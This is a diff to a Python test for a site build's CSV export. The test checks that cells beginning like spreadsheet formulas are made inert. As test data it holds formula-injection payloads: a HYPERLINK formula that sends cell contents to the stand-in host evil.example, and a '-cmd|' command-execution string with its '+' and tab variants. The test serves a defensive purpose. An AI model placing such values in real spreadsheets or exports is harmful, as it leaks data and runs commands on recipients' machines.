@@ -368,3 +368,10 @@ def test_csv_cells_that_start_like_a_formula_are_made_inert(tmp_path: Path):
     assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells
     assert "'-cmd|' /C calc'!A0" in cells and "'@SUM(1+1)" in cells
     assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    # "+" and a tab start a formula too (a carriage return cannot reach a cell: content refuses it).
+    edit(claims, "claimant: '=HYPERLINK", "claimant: '+HYPERLINK")
+    edit(claims, "claimant: '-cmd|'' /C calc''!A0'", 'claimant: "\\t-cmd"')
+    assert run_build(root).code == 0
+    cells = [cell for row in csv.reader(io.StringIO((root / "site" / "flood" / "data" / "claims.csv").read_text(
+        encoding="utf-8"), newline="")) for cell in row]
+    assert "'+HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells and "'\t-cmd" in cells
